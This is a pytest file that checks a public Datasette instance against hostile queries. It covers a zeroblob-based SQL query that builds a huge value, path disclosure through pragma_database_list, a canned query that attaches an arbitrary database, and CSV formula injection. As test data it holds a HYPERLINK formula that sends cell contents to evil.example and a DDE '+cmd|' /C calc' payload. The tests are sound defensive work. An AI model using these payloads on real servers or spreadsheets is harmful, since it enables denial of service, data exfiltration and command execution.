"""The public Datasette against hostile queries: one slow function, a huge value, attaching, the server's paths, formulas in CSV.

Each test replays an attack that worked before the limits: it is refused (or
answered harmlessly) and the public copy and the disk are left as they were.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from registry.publishing.datasette import datasette_app, load_metadata
from registry.publishing.publish import publish_registry
from registry.publishing.request_guards import public_asgi
from registry.store.database import open_registry

ROOT = Path(__file__).resolve().parents[1]
HUGE = "select length(replace(hex(zeroblob(490000000)), '00', '0')) as n"


@pytest.fixture(scope="module")
def public_db(example_master: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    registry = open_registry(example_master, migrate=False)
    try:
        return publish_registry(registry, tmp_path_factory.mktemp("bounded") / "public").database
    finally:
        registry.close()


@pytest.fixture(scope="module")
def ds(public_db: Path) -> Any:
    return datasette_app(public_db, load_metadata(ROOT / "metadata.json"))


async def get(ds: Any, path: str, **params: str) -> httpx.Response:
    await ds.invoke_startup()
    transport = httpx.ASGITransport(app=public_asgi(ds.app()))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        return await client.get(path, params=params)


async def test_a_query_that_builds_a_huge_value_is_refused_at_once(ds: Any) -> None:
    response = await get(ds, "/public.json", sql=HUGE)
    assert response.status_code == 400 and "too big" in response.text


async def test_a_huge_value_through_a_table_pages_where_clause_is_refused(ds: Any) -> None:
    response = await get(ds, "/public/assets.json", _where=f"id in ({HUGE.replace(' as n', '')})")
    assert response.status_code == 400 and "too big" in response.text


async def test_the_servers_file_path_is_not_shown(ds: Any, public_db: Path) -> None:
    response = await get(ds, "/public.json", sql="select * from pragma_database_list", _shape="array")
    assert str(public_db) not in response.text and str(public_db.parent) not in response.text


async def test_a_canned_query_in_a_custom_metadata_file_cannot_attach_a_file(public_db: Path, tmp_path: Path) -> None:
    metadata = load_metadata(ROOT / "metadata.json")
    target = tmp_path / "created-by-attach.db"
    metadata["databases"]["public"]["queries"]["attach_anything"] = {"sql": f"attach database '{target}' as other", "write": False}
    custom = datasette_app(public_db, metadata)
    before = public_db.read_bytes()
    response = await get(custom, "/public/attach_anything.json")
    assert response.status_code >= 400 or response.json().get("ok") is False
    assert not target.exists() and public_db.read_bytes() == before


async def test_datasettes_csv_neutralises_formulas_but_keeps_numbers_and_json_keeps_the_text(ds: Any) -> None:
    sql = "select '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")' as a, '+cmd|'' /C calc''!A0' as b, '@SUM(1+1)' as c, -12.5 as d, 'plain' as e"
    for path, params in (
        ("/public.csv", {"sql": sql}),
        ("/public.csv", {"sql": sql, "_stream": "on"}),
        ("/public.csv", {"sql": sql, "_dl": "1"}),
    ):
        response = await get(ds, path, **params)
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.text)))
        assert rows[0] == ["a", "b", "c", "d", "e"]
        assert rows[1] == ['\'=HYPERLINK("http://evil.example/?d="&A1,"click")', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "-12.5", "plain"]
    exact = json.loads((await get(ds, "/public.json", sql=sql, _shape="array")).text)
    assert exact[0]["a"].startswith("=HYPERLINK") and exact[0]["d"] == -12.5


async def test_a_table_csv_with_quoted_newlines_in_cells_keeps_its_rows(ds: Any) -> None:
    sql = "select 'line one' || char(10) || '=2+2' as a, '\"quoted\", with comma' as b union all select '-3', '=x'"
    response = await get(ds, "/public.csv", sql=sql, _stream="on")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows == [["a", "b"], ["line one\n=2+2", '"quoted", with comma'], ["-3", "'=x"]]
